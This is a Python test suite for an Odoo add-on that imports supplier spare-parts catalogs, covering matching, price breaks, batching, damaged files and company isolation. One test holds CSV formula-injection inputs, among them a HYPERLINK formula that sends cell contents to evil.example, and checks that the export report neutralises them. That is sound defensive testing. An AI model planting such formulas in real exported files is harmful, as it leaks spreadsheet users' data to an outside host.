import base64
import codecs
import csv
import io
from unittest.mock import patch

from odoo.exceptions import UserError
from odoo.tests import Form, tagged
from odoo.tools import SQL, sql

from odoo.addons.queue_job.job import Job

from .common import ServicePartsCase, broken_workbooks

HEADER = ("Article", "Description", "OEM", "Price", "Currency", "MOQ", "Lead time")


def _csv(rows, header=HEADER, delimiter=","):
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    return base64.b64encode(out.getvalue().encode())


class FarStream(io.BytesIO):
    """A file whose bytes after its first part are 6 GB further on than in
    the file (its size too): what a file over 2 GB gives the reading jobs."""

    base = 3 * 2**31

    def seek(self, pos, whence=io.SEEK_SET):
        if whence == io.SEEK_END:
            return super().seek(0, io.SEEK_END) + self.base
        return super().seek(pos - self.base if pos >= self.base else pos, whence)


@tagged("post_install", "-at_install")
class TestImport(ServicePartsCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.known = cls._part("Known valve", "KN-1")
        cls._crossref(cls.known, "SUP-KNOWN-1", code_type="supplier", partner=cls.supplier_rub)
        cls.known_oem = cls._part("Known by OEM", "KN-2")
        cls._crossref(cls.known_oem, "OEM-2222", partner=cls.manufacturer)
        cls.rows = [
            ["SUP-NEW-1", "New nozzle", "OEM-1111", "120,50", "RUB", "", "4"],  # line 2
            ["SUP-NEW-2", "New sensor", "", "15.2", "EUR", "5", ""],  # line 3
            ["sup known 1", "Known valve (supplier name)", "", "900", "", "", "2"],  # line 4
            ["SUP-BYOEM", "Found by OEM", "oem 2222", "300", "RUB", "", ""],  # line 5
            ["", "No code", "", "10", "RUB", "", ""],  # line 6
            ["SUP-BADPRICE", "Bad price", "", "12abc", "RUB", "", ""],  # line 7
            ["SUP-BADCUR", "Bad currency", "", "12", "XYZ", "", ""],  # line 8
            ["SUP-NEW-1", "Duplicate", "", "99", "RUB", "", ""],  # line 9
            ["SUP-NEG", "Negative price", "", "-5", "RUB", "", ""],  # line 10
        ]

    def _import(self, rows=None, file=None, file_name="catalog.csv", **vals):
        return self.env["service.part.import"].create(
            dict(
                {
                    "partner_id": self.supplier_rub.id,
                    "file": file or _csv(self.rows if rows is None else rows),
                    "file_name": file_name,
                    "col_code": "Article",
                    "col_name": "Description",
                    "col_oem": "OEM",
                    "col_price": "Price",
                    "col_currency": "Currency",
                    "col_min_qty": "MOQ",
                    "col_delay": "Lead time",
                    "default_currency_id": self.rub.id,
                },
                **vals,
            )
        )

    def _sellers(self):
        return self.env["product.supplierinfo"].search([("partner_id", "=", self.supplier_rub.id)])

    def test_import_creates_updates_and_rejects(self):
        imp = self._import()
        imp._run_import()
        self.assertEqual(imp.state, "done")
        self.assertEqual(imp.line_count, 9)
        self.assertEqual(imp.part_created_count, 2)
        self.assertEqual(imp.part_matched_count, 2)
        self.assertEqual(imp.rejected_count, 5)
        self.assertEqual(imp.price_created_count, 4)

        new = self.env["product.product"].search([("name", "=", "New nozzle")])
        self.assertTrue(new.is_spare_part)
        self.assertEqual(new.manufacturer_part_number, "OEM-1111")
        self.assertEqual(
            sorted(new.service_crossref_ids.mapped(lambda c: (c.code_type, c.normalized_code))),
            [("oem", "OEM1111"), ("supplier", "SUPNEW1")],
        )
        seller = new.product_tmpl_id.seller_ids
        self.assertEqual((seller.price, seller.currency_id, seller.delay), (120.5, self.rub, 4))
        sensor = self.env["product.product"].search([("name", "=", "New sensor")])
        seller = sensor.product_tmpl_id.seller_ids
        self.assertEqual((seller.price, seller.currency_id, seller.min_qty), (15.2, self.eur, 5))
        # The known part keeps its name and gets the price in the default currency.
        self.assertEqual(self.known.name, "Known valve")
        self.assertEqual(self.known.product_tmpl_id.seller_ids.price, 900)
        self.assertEqual(self.known.product_tmpl_id.seller_ids.currency_id, self.rub)
        # Found by its OEM number: no new part, the supplier number is added.
        self.assertIn("SUPBYOEM", self.known_oem.service_crossref_ids.mapped("normalized_code"))
        # New parts work through the ORM and the lookup at once.
        self.assertEqual(new.display_name, "New nozzle")
        results = self.env["product.product"].service_parts_lookup("sup-new-1")
        self.assertEqual(results[0]["product_id"], new.id)
        self.assertEqual(results[0]["offer"]["partner_id"], self.supplier_rub.id)

        report = base64.b64decode(imp.report_file).decode()
        rows = list(csv.reader(io.StringIO(report)))
        reasons = {int(row[0]): row[5] for row in rows[1:]}
        self.assertEqual(
            reasons,
            {
                6: "empty supplier code",
                7: "bad price",
                8: "unknown currency",
                9: "duplicate of line 2",
                10: "bad price",
            },
        )
        self.assertIn("rejected_lines", imp.report_file_name)

    def test_reimport_is_idempotent(self):
        self._import()._run_import()
        parts = self.env["product.product"].search_count([])
        crossrefs = self.env["service.part.crossref"].search_count([])
        sellers = self._sellers().read(["price", "currency_id", "delay", "min_qty"])
        again = self._import()
        again._run_import()
        self.assertEqual(again.part_created_count, 0)
        self.assertEqual(again.crossref_created_count, 0)
        self.assertEqual(again.price_created_count, 0)
        self.assertEqual(again.price_updated_count, 0)
        self.assertEqual(self.env["product.product"].search_count([]), parts)
        self.assertEqual(self.env["service.part.crossref"].search_count([]), crossrefs)
        self.assertEqual(
            self._sellers().read(["price", "currency_id", "delay", "min_qty"]), sellers
        )
        # A new price updates the existing line, nothing else.
        rows = [list(row) for row in self.rows]
        rows[0][3] = "130"
        changed = self._import(rows)
        changed._run_import()
        self.assertEqual(changed.price_updated_count, 1)
        self.assertEqual(changed.price_created_count, 0)
        nozzle = self.env["product.product"].search([("name", "=", "New nozzle")])
        self.assertEqual(nozzle.product_tmpl_id.seller_ids.price, 130)

    def test_query_count_independent_of_lines(self):
        # Warm the caches (defaults, precision, groups) that a first run fills.
        self._import([["W-1", "Warm", "", "1", "RUB", "", ""]])._run_import()
        small = self._import(
            [["Q-%s" % i, "Part %s" % i, "", "10", "RUB", "", ""] for i in range(5)]
        )
        small._run_import()
        big = self._import(
            [["Q-%s" % i, "Part %s" % i, "", "10", "RUB", "", ""] for i in range(5, 505)]
        )
        big._run_import()
        self.assertEqual(big.part_created_count, 500)
        self.assertEqual(big.query_count, small.query_count)
        self.assertLess(big.query_count, 40)

    def test_xlsx(self):
        import openpyxl  # noqa: PLC0415

        book = openpyxl.Workbook()
        sheet = book.active
        sheet.append(HEADER)
        sheet.append(["X-1", "Spreadsheet part", "OEM-X1", 42.5, "EUR", 2, 6])
        sheet.append(["X-2", "Bad", None, "n/a", "EUR", None, None])
        buffer = io.BytesIO()
        book.save(buffer)
        imp = self._import(file=base64.b64encode(buffer.getvalue()), file_name="catalog.xlsx")
        imp._run_import()
        self.assertEqual((imp.part_created_count, imp.rejected_count), (1, 1))
        part = self.env["product.product"].search([("name", "=", "Spreadsheet part")])
        seller = part.product_tmpl_id.seller_ids
        self.assertEqual(
            (seller.price, seller.currency_id, seller.min_qty, seller.delay), (42.5, self.eur, 2, 6)
        )

    def test_mapping_remembered_and_job_queued(self):
        imp = self._import(
            [["J-1", "Queued part", "", "10", "RUB", "", ""]], delimiter=",", file_name="a.csv"
        )
        imp.with_user(self.service_manager).action_start()
        self.assertEqual(imp.state, "queued")
        job_record = self.env["queue.job"].search([("uuid", "=", imp.job_uuid)])
        self.assertEqual(job_record.method_name, "_run_import_job")
        self.assertEqual(job_record.state, "pending")
        self.assertEqual(imp.progress_step, "Waiting")
        Job.load(self.env, imp.job_uuid).perform()
        self.assertEqual(imp.state, "done")
        self.assertEqual(imp.progress, 100)
        self.assertEqual(imp.part_created_count, 1)
        mapping = self.env["service.part.import.mapping"].search(
            [("partner_id", "=", self.supplier_rub.id)]
        )
        self.assertEqual((mapping.col_code, mapping.col_price), ("Article", "Price"))
        # The next import of this supplier's file starts with the mapping.
        form = Form(self.env["service.part.import"].with_user(self.service_manager))
        form.partner_id = self.supplier_rub
        self.assertEqual(form.col_code, "Article")
        self.assertEqual(form.col_delay, "Lead time")

    def test_columns_detected_from_header(self):
        form = Form(self.env["service.part.import"])
        form.partner_id = self.supplier_eur
        form.file = _csv([], header=["Артикул", "Наименование", "Цена", "Валюта"], delimiter=";")
        form.delimiter = ";"
        self.assertEqual(form.header_preview, "Артикул, Наименование, Цена, Валюта")
        self.assertEqual(
            (form.col_code, form.col_name, form.col_price, form.col_currency),
            ("Артикул", "Наименование", "Цена", "Валюта"),
        )

    def test_bad_files(self):
        imp = self._import(col_price="Prix")
        with self.assertRaisesRegex(UserError, "not in the file: Prix"), self.cr.savepoint():
            imp._run_import()
        empty = self._import(file=base64.b64encode(b"\n"))
        with self.assertRaisesRegex(UserError, "The file is empty"), self.cr.savepoint():
            empty._run_import()
        header_only = self._import([])
        with self.assertRaisesRegex(UserError, "no lines below its header"), self.cr.savepoint():
            header_only._run_import()
        # In the job, a refusal marks the import failed, nothing half-written.
        parts = self.env["product.product"].search_count([])
        imp._run_import_job()
        self.assertEqual(imp.state, "failed")
        self.assertIn("Prix", imp.error)
        self.assertEqual(self.env["product.product"].search_count([]), parts)
        bad_xlsx = self._import(file=base64.b64encode(b"not a zip"), file_name="x.xlsx")
        with self.assertRaisesRegex(UserError, "not a readable XLSX"), self.cr.savepoint():
            bad_xlsx._run_import()

    def test_damaged_workbooks_refused_in_words(self):
        """A damaged XLSX is a UserError on upload (the form's onchange), on
        start, and a failed import with the reason in the job: never
        openpyxl's AttributeError, zipfile's BadZipFile or the XML ParseError."""
        parts = self.env["product.product"].search_count([])
        for what, (data, header_readable) in broken_workbooks(list(HEADER)).items():
            with self.subTest(what=what):
                imp = self._import(file=base64.b64encode(data), file_name="catalog.xlsx")
                upload = self.env["service.part.import"].new(
                    {"partner_id": self.supplier_rub.id, "file": imp.file, "file_name": "c.xlsx"}
                )
                warning = upload._onchange_file()
                if header_readable:
                    self.assertFalse(warning)
                    imp.with_user(self.service_manager).action_start()
                    self.assertEqual(imp.state, "queued")
                    self.assertEqual(imp._run_import_job(), "failed")
                    self.assertIn("damaged after line", imp.error)
                else:
                    self.assertRegex(warning["warning"]["message"], "XLSX|worksheet")
                    with self.assertRaisesRegex(UserError, "XLSX|worksheet"), self.cr.savepoint():
                        imp.with_user(self.service_manager).action_start()
                    self.assertEqual(imp._run_import_job(), "failed")
                    self.assertRegex(imp.error, "XLSX|worksheet")
        self.assertEqual(self.env["product.product"].search_count([]), parts)

    def test_unexpected_error_recorded_on_the_import(self):
        """Whatever else stops the job, the import says so in a sentence
        and nothing of it stays; the traceback goes to the log only."""
        imp = self._import()
        with (
            patch.object(type(imp), "_apply_staged", side_effect=AttributeError("boom")),
            self.assertLogs("odoo.addons.service_parts.models.service_part_import", "ERROR"),
        ):
            self.assertEqual(imp._run_import_job(), "failed")
        self.assertIn("unexpected error (AttributeError: boom)", imp.error)
        self.assertFalse(self.env["product.product"].search([("name", "=", "New nozzle")]))

    def test_rejected_lines_report_has_no_formulas(self):
        """Cells of the rejected-lines CSV that a spreadsheet would run as a
        formula start with an apostrophe; accepted names are stored as given."""
        rows = [
            ['=HYPERLINK("http://evil.example/?"&A1,"open")', "Link", "", "x", "RUB", "", ""],
            ["F-2", "+1+1", "", "-5", "RUB", "", ""],
            ["F-3", "@SUM(1+1)", "", "7", "@SUM(1+1)", "", ""],
            ["F-4", "\t=1+1", "", "\r=1+1", "RUB", "", ""],
            ["F-5", "@SUM(1+1)", "", "7", "RUB", "", ""],
        ]
        imp = self._import(rows)
        imp._run_import()
        self.assertEqual((imp.rejected_count, imp.part_created_count), (4, 1))
        report = base64.b64decode(imp.report_file).decode()
        cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
        self.assertIn('\'=HYPERLINK("http://evil.example/?"&A1,"open")', cells)
        for cell in ("'+1+1", "'-5", "'@SUM(1+1)", "'\t=1+1", "'\r=1+1"):
            self.assertIn(cell, cells)
        self.assertFalse([cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")])
        # Stored as the supplier wrote it: neutralised where the suite writes CSV.
        self.assertTrue(self.env["product.product"].search([("name", "=", "@SUM(1+1)")]))

    def test_other_company_import_stays_in_its_company(self):
        """Another company's import creates its parts, numbers and prices in
        that company: a service user of this company does not see its
        supplier's codes, on new parts nor on the parts both share."""
        other = self.env["res.company"].create({"name": "Parts Import Co 2"})
        shared = self._part("Shared valve", "SH-1")
        self._crossref(shared, "OEM-SHARED-9")
        rows = [
            ["BX-771", "Other company's nozzle", "BY-772", "10", "RUB", "", ""],
            ["BZ-773", "Shared valve (their name)", "OEM-SHARED-9", "20", "RUB", "", ""],
        ]
        imp = self._import(rows, company_id=other.id)
        imp._run_import()
        self.assertEqual((imp.part_created_count, imp.part_matched_count), (1, 1))
        new = self.env["product.product"].search([("name", "=", "Other company's nozzle")])
        self.assertEqual(new.product_tmpl_id.company_id, other)
        crossrefs = self.env["service.part.crossref"].search(
            [("normalized_code", "in", ("BX771", "BY772", "BZ773"))]
        )
        self.assertEqual(len(crossrefs), 3)
        self.assertEqual(crossrefs.company_id, other)
        self.assertEqual(self._sellers().company_id, other)
        # The shared part's own number stays the one every company sees, once.
        self.assertEqual(
            self.env["service.part.crossref"].search_count(
                [("normalized_code", "=", "OEMSHARED9")]
            ),
            1,
        )
        # Importing again changes nothing.
        again = self._import(rows, company_id=other.id)
        again._run_import()
        self.assertEqual((again.part_created_count, again.crossref_created_count), (0, 0))

        user = self.service_user.with_context(allowed_company_ids=[self.company.id])
        Product = self.env["product.product"].with_user(user)
        for code in ("BX-771", "BY-772", "BZ-773"):
            with self.subTest(code=code):
                self.assertEqual(Product.service_parts_lookup(code), [])
                self.assertFalse(Product.name_search(code))
                self.assertFalse(
                    self.env["service.part.crossref"].with_user(user).search([("code", "=", code)])
                )
        # The shared part is still found by its shared number, without the
        # other company's supplier or its price.
        (hit,) = Product.service_parts_lookup("OEM-SHARED-9")
        self.assertEqual(hit["product_id"], shared.id)
        self.assertEqual((hit["match"]["code"], hit["match"]["partner"]), ("OEM-SHARED-9", ""))
        self.assertFalse(hit["offer"])

    # ------------------------------------------------------------------
    # Price breaks and batches
    # ------------------------------------------------------------------
    def _perform_jobs(self, imp, limit=None):
        """Run the import's queued jobs as the runner would, one after the
        other, the jobs they queue included; returns their uuids in order."""
        performed = []
        while limit is None or len(performed) < limit:
            job_record = self.env["queue.job"].search(
                [
                    ("model_name", "=", "service.part.import"),
                    ("state", "=", "pending"),
                    ("uuid", "not in", performed),
                ],
                order="id",
            )
            job_record = job_record.filtered(lambda job, imp=imp: job.records.ids == imp.ids)[:1]
            if not job_record:
                return performed
            self.assertEqual(job_record.channel, "root.service_parts")
            job = Job.load(self.env, job_record.uuid)
            job.perform()
            job.set_done()
            job.store()
            performed.append(job_record.uuid)
        return performed

    def _counts(self):
        return (
            self.env["product.template"].search_count([]),
            self.env["product.supplierinfo"].search_count([]),
            self.env["service.part.crossref"].search_count([]),
        )

    def test_price_breaks_one_part_one_price_each(self):
        """One supplier code at several minimum quantities is one part with a
        supplier price per quantity; importing the same file again changes
        nothing."""
        rows = [
            ["PB-1", "Break pump", "OEM-PB-1", "100", "RUB", "1", "3"],
            ["PB-2", "Other pump", "", "50", "RUB", "", ""],
            ["pb 1", "Break pump", "", "90", "RUB", "10", "3"],
            ["PB-1", "Break pump", "", "80", "RUB", "50", "5"],
        ]
        before = self._counts()
        imp = self._import(rows)
        imp._run_import()
        self.assertEqual((imp.part_created_count, imp.price_created_count), (2, 4))
        self.assertEqual(imp.rejected_count, 0)
        pump = self.env["product.product"].search([("name", "=", "Break pump")])
        self.assertEqual(len(pump), 1)
        self.assertEqual(
            sorted(pump.product_tmpl_id.seller_ids.mapped(lambda s: (s.min_qty, s.price))),
            [(1, 100), (10, 90), (50, 80)],
        )
        # 2 parts, 4 prices, 3 numbers (two supplier codes, one OEM number)
        self.assertEqual(self._counts(), (before[0] + 2, before[1] + 4, before[2] + 3))
        after = self._counts()
        again = self._import(rows)
        again._run_import()
        self.assertEqual(
            (again.part_created_count, again.price_created_count, again.price_updated_count),
            (0, 0, 0),
        )
        self.assertEqual(again.part_matched_count, 2)
        self.assertEqual(self._counts(), after)

    def test_large_file_imports_in_batches(self):
        """A file is imported in batches of the system parameter's size, a
        job each, on the catalog channel; the import shows its progress over
        the whole file and is done with its last batch. The lines of one code
        (price breaks) stay in one batch."""
        self.env["ir.config_parameter"].set_param("service_parts.import_chunk_size", "1000")
        rows = [["BT-%s" % i, "Batch part %s" % i, "", "10", "RUB", "1", ""] for i in range(2500)]
        rows += [["BT-%s" % i, "Batch part %s" % i, "", "9", "RUB", "10", ""] for i in range(2500)]
        before = self._counts()
        imp = self._import(rows)
        imp.with_user(self.service_manager).action_start()
        first = imp.job_uuid
        self.assertEqual(self._perform_jobs(imp, limit=1), [first])
        self.assertEqual(imp.state, "queued")
        self.assertEqual((imp.chunk_done_count, imp.chunk_count), (1, 5))
        # Over the whole file: read (the first half), then 1 of 5 batches.
        self.assertEqual(imp.progress, 60)
        self.assertEqual(imp.progress_step, "1 of 5 batches of lines imported")
        self.assertNotEqual(imp.job_uuid, first)
        self.assertEqual(len(self._perform_jobs(imp)), 4)
        self.assertEqual(imp.state, "done")
        self.assertEqual((imp.chunk_done_count, imp.line_count), (5, 5000))
        self.assertEqual((imp.part_created_count, imp.part_matched_count), (2500, 0))
        self.assertEqual(imp.price_created_count, 5000)
        self.assertEqual(self._counts()[:2], (before[0] + 2500, before[1] + 5000))
        self.env.cr.execute(
            "SELECT count(*) FROM service_part_import_staged WHERE import_id = %s", [imp.id]
        )
        self.assertEqual(self.env.cr.fetchone()[0], 0)
        # The default size takes the file in one job.
        self.env["ir.config_parameter"].set_param("service_parts.import_chunk_size", "")
        again = self._import(rows)
        again._run_import()
        self.assertEqual((again.chunk_count, again.part_matched_count), (1, 2500))
        self.assertEqual(self._counts()[:2], (before[0] + 2500, before[1] + 5000))
        # A size that is no number of lines is refused at the start.
        self.env["ir.config_parameter"].set_param("service_parts.import_chunk_size", "many")
        with self.assertRaisesRegex(UserError, "positive number of lines"), self.cr.savepoint():
            self._import(rows).action_start()

    def test_failed_batch_fails_the_import(self):
        """A batch that fails fails the import with its reason: nothing of that
        batch stays and no further batch runs; the batches before it stay,
        and importing the file again completes it without doubles."""
        self.env["ir.config_parameter"].set_param("service_parts.import_chunk_size", "1000")
        rows = [["FB-%s" % i, "Failing part %s" % i, "", "10", "RUB", "", ""] for i in range(5000)]
        before = self._counts()
        imp = self._import(rows)
        imp.action_start()
        apply_staged = type(imp)._apply_staged
        calls = []
        damaged = "supplier price list damaged"

        def third_fails(record):
            calls.append(record.id)
            result = apply_staged(record)
            if len(calls) == 3:
                raise UserError(damaged)
            return result

        with (
            patch.object(type(imp), "_apply_staged", third_fails),
            self.assertLogs("odoo.addons.service_parts.models.service_part_import", "WARNING"),
        ):
            self.assertEqual(len(self._perform_jobs(imp)), 3)
        self.assertEqual(imp.state, "failed")
        # Batches are runs of codes (all lines of a code in one), of about
        # the configured size: the two first hold about 2000 lines.
        done = imp.part_created_count
        self.assertTrue(1500 < done < 2500, done)
        self.assertIn(
            "Batch 3 of 5 failed: its lines and those of the batches after it, %s lines, "
            "were not imported; the 2 batches before it are." % (5000 - done),
            imp.error,
        )
        self.assertTrue(imp.error.endswith("The cause: supplier price list damaged"))
        self.assertEqual(self._counts()[:2], (before[0] + done, before[1] + done))
        # Started again, it finds the parts of the first batches and adds the rest.
        imp.action_reset()
        imp.action_start()
        self._perform_jobs(imp)
        self.assertEqual(imp.state, "done")
        self.assertEqual((imp.part_created_count, imp.part_matched_count), (5000 - done, done))
        self.assertEqual(imp.unchanged_count, done)
        self.assertEqual(self._counts()[:2], (before[0] + 5000, before[1] + 5000))

    # ------------------------------------------------------------------
    # Reading in parts, unchanged lines
    # ------------------------------------------------------------------
    def _row_versions(self):
        """Each catalog row of the supplier's parts with its tuple's place:
        an UPDATE moves it, even one that writes the same values."""
        self.env.flush_all()
        versions = {}
        for table in ("product_template", "product_product", "product_supplierinfo",
                      "service_part_crossref"):  # fmt: skip
            self.env.cr.execute(SQL("SELECT id, ctid::text FROM %s", SQL.identifier(table)))
            versions[table] = dict(self.env.cr.fetchall())
        return versions

    def test_reimport_unchanged_touches_nothing(self):
        """The same file again: its lines are recognised as unchanged while it
        is read and no row of the catalog is written, none added; a price
        changed in one line updates that price only, and a price or a number
        changed by hand since is put back as the file says."""
        self._import()._run_import()
        versions = self._row_versions()
        again = self._import()
        again._run_import()
        # 9 lines, 5 rejected (the duplicate too), the 4 others change nothing.
        self.assertEqual((again.line_count, again.rejected_count), (9, 5))
        self.assertEqual((again.unchanged_count, again.part_matched_count), (4, 4))
        self.assertEqual(
            (again.part_created_count, again.crossref_created_count, again.price_created_count),
            (0, 0, 0),
        )
        self.assertEqual(again.price_updated_count, 0)
        self.assertEqual(self._row_versions(), versions)
        report = base64.b64decode(again.report_file).decode()
        self.assertIn("duplicate of line 2", report)

        # One price changed in the file: that price is written, nothing else.
        rows = [list(row) for row in self.rows]
        rows[1][3] = "16.4"
        changed = self._import(rows)
        changed._run_import()
        self.assertEqual((changed.unchanged_count, changed.price_updated_count), (3, 1))
        after = self._row_versions()
        sensor = self.env["product.product"].search([("name", "=", "New sensor")])
        seller = sensor.product_tmpl_id.seller_ids
        self.assertEqual(seller.price, 16.4)
        self.assertNotEqual(
            after["product_supplierinfo"][seller.id], versions["product_supplierinfo"][seller.id]
        )
        del after["product_supplierinfo"][seller.id], versions["product_supplierinfo"][seller.id]
        self.assertEqual(after, versions)

        # Changed by hand since: not unchanged, put back by the file.
        seller.price = 1
        nozzle = self.env["product.product"].search([("name", "=", "New nozzle")])
        nozzle.service_crossref_ids.filtered(lambda c: c.code_type == "oem").unlink()
        restored = self._import(rows)
        restored._run_import()
        self.assertEqual(restored.unchanged_count, 2)
        self.assertEqual((restored.price_updated_count, restored.crossref_created_count), (1, 1))
        self.assertEqual(seller.price, 16.4)
        self.assertIn("OEM1111", nozzle.service_crossref_ids.mapped("normalized_code"))

    def test_file_read_in_parts(self):
        """A file longer than one reading job's lines (ten batches') is read
        by several jobs, each from where the one before stopped, and imports
        as it would in one: quoted cells over several lines, Windows line
        breaks and the UTF-8 mark, a code's price breaks and duplicates far
        apart in the file. The progress covers the reading."""
        self.env["ir.config_parameter"].set_param("service_parts.import_chunk_size", "3")
        rows = [["RP-%s" % i, "Part %s" % i, "", "10", "RUB", "1", ""] for i in range(100)]
        rows[31][1] = "Two\r\nlines, quoted"
        rows[59][1] = "Three\nlines\nquoted"
        rows.append(["RP-1", "Part 1", "", "8", "RUB", "10", ""])  # a price break of line 3
        rows.append(["rp 2", "Part 2 again", "", "9", "RUB", "1", ""])  # a duplicate of line 4
        out = io.StringIO()
        writer = csv.writer(out)  # \r\n after each row
        writer.writerow(HEADER)
        writer.writerows(rows)
        data = base64.b64encode(codecs.BOM_UTF8 + out.getvalue().encode())
        imp = self._import(file=data)
        imp.action_start()
        self._perform_jobs(imp, limit=1)
        self.assertEqual(imp.state, "queued")
        self.assertEqual(imp.read_line, 31)
        self.assertTrue(0 < imp.progress < 50, imp.progress)
        self.assertEqual(imp.progress_step, "Reading the file: 31 lines so far")
        self._perform_jobs(imp)
        self.assertEqual(imp.state, "done")
        self.assertEqual((imp.line_count, imp.read_line, imp.rejected_count), (102, 103, 1))
        self.assertEqual((imp.part_created_count, imp.price_created_count), (100, 101))
        self.assertEqual(imp.read_offset, imp.file_size)
        names = self.env["product.product"].search([("name", "=like", "%lines%")]).mapped("name")
        self.assertEqual(sorted(names), ["Three\nlines\nquoted", "Two\r\nlines, quoted"])
        part_1 = self.env["product.product"].search([("name", "=", "Part 1")])
        self.assertEqual(
            sorted(part_1.product_tmpl_id.seller_ids.mapped(lambda s: (s.min_qty, s.price))),
            [(1, 10), (10, 8)],
        )
        report = base64.b64decode(imp.report_file).decode()
        self.assertIn("duplicate of line 4", report)
        for table in ("service_part_import_staged", "service_part_import_bucket"):
            self.env.cr.execute(
                SQL("SELECT count(*) FROM %s WHERE import_id = %s", SQL.identifier(table), imp.id)
            )
            self.assertEqual(self.env.cr.fetchone()[0], 0, table)

    def test_file_over_2_gb(self):
        """A file over 2 GB: its size and the offset the reading jobs reach
        pass int4 (simulated: the file's second part seen 6 GB further on,
        as a file that large would put it) and the jobs go on from there."""
        self.env["ir.config_parameter"].set_param("service_parts.import_chunk_size", "3")
        rows = [["GB-%s" % i, "Part %s" % i, "", "10", "RUB", "1", ""] for i in range(70)]
        raw = base64.b64decode(_csv(rows))
        imp = self._import(file=base64.b64encode(raw))
        imp.action_start()
        self._perform_jobs(imp, limit=1)
        self.assertEqual((imp.state, imp.read_line), ("queued", 31))
        offset, base = int(imp.read_offset), FarStream.base
        self.env.cr.execute(
            SQL(
                "UPDATE service_part_import SET read_offset = %s WHERE id = %s",
                offset + base,
                imp.id,
            )
        )
        imp.invalidate_recordset()
        with patch.object(type(imp), "_open_file", lambda record: FarStream(raw)):
            self._perform_jobs(imp, limit=1)
            self.assertEqual((imp.state, imp.read_line), ("queued", 61))
            self.assertGreater(imp.read_offset, 2**31)
            self.assertEqual(imp.file_size, len(raw) + base)
            self.assertTrue(49 < imp.progress < 50, imp.progress)
            self._perform_jobs(imp)
        self.assertEqual(imp.state, "done")
        self.assertEqual((imp.line_count, imp.part_created_count), (70, 70))
        self.assertEqual(imp.read_offset, len(raw) + base)
        # As the database holds it, exactly.
        self.env.cr.execute(
            SQL("SELECT file_size, read_offset FROM service_part_import WHERE id = %s", imp.id)
        )
        self.assertEqual(self.env.cr.fetchone(), (len(raw) + base, len(raw) + base))

    def test_int4_offsets_converted_on_update(self):
        """A database of the int4 columns: the module's update converts them
        to numeric in place, their values kept."""
        imp = self._import()
        cr = self.env.cr
        cr.execute(
            SQL(
                "ALTER TABLE service_part_import ALTER COLUMN file_size TYPE integer,"
                " ALTER COLUMN read_offset TYPE integer"
            )
        )
        cr.execute(
            SQL(
                "UPDATE service_part_import SET file_size = 2147483647, read_offset = 1000"
                " WHERE id = %s",
                imp.id,
            )
        )
        model = self.env["service.part.import"]
        columns = sql.table_columns(cr, model._table)
        for fname in ("file_size", "read_offset"):
            model._fields[fname].update_db_column(model, columns[fname])
        columns = sql.table_columns(cr, model._table)
        self.assertEqual(
            (columns["file_size"]["udt_name"], columns["read_offset"]["udt_name"]),
            ("numeric", "numeric"),
        )
        cr.execute(
            SQL(
                "UPDATE service_part_import SET file_size = file_size + %s WHERE id = %s"
                " RETURNING file_size, read_offset",
                2**32,
                imp.id,
            )
        )
        self.assertEqual(cr.fetchone(), (2147483647 + 2**32, 1000))

    def test_cells_checked_while_read(self):
        """The numbers, prices, quantities and lead times are checked while
        the file is read (Python, not a regular expression per cell in
        PostgreSQL) as the SQL checked them: spaces in a price, a decimal
        comma, empty cells' defaults; what does not read is rejected; a cell
        with a tab or a backslash arrives as written."""
        rows = [
            ["sp-1/a", "Tab\there \\ back", "oem 77-1", " 1 200,50 ", "RUB", " 2 ", " 3 "],  # 2
            ["SP-2", "Thin space", "", "1\u2009300", "RUB", "", ""],  # 3
            ["SP-3", "No-break space", "", "1\u00a0300", "RUB", "", ""],  # 4
            ["SP-4", "Long lead time", "", "10", "RUB", "", "123456"],  # 5
            ["SP-5", "Bad quantity", "", "10", "RUB", "1e3", ""],  # 6
            ["SP-6", "Too many digits", "", "1234567890123", "RUB", "", ""],  # 7
            ["SP-7", "Comma quantity", "", "5.", "RUB", "2,5", ""],  # 8
            ["--", "No code once normalized", "", "5", "RUB", "", ""],  # 9
        ]
        imp = self._import(rows)
        imp._run_import()
        self.assertEqual((imp.state, imp.line_count, imp.part_created_count), ("done", 8, 2))
        first = self.env["product.product"].search([("name", "=", "Tab\there \\ back")])
        self.assertEqual(
            sorted(first.service_crossref_ids.mapped(lambda c: (c.code_type, c.normalized_code))),
            [("oem", "OEM771"), ("supplier", "SP1A")],
        )
        seller = first.product_tmpl_id.seller_ids
        self.assertEqual((seller.price, seller.min_qty, seller.delay), (1200.5, 2, 3))
        second = self.env["product.product"].search([("name", "=", "Thin space")])
        self.assertEqual(second.product_tmpl_id.seller_ids.mapped("price"), [1300])
        reasons = {
            int(row[0]): row[5]
            for row in list(csv.reader(io.StringIO(base64.b64decode(imp.report_file).decode())))[1:]
        }
        self.assertEqual(
            reasons,
            {
                4: "bad price",
                5: "bad minimum quantity or lead time",
                6: "bad minimum quantity or lead time",
                7: "bad price",
                8: "bad price",
                9: "empty supplier code",
            },
        )
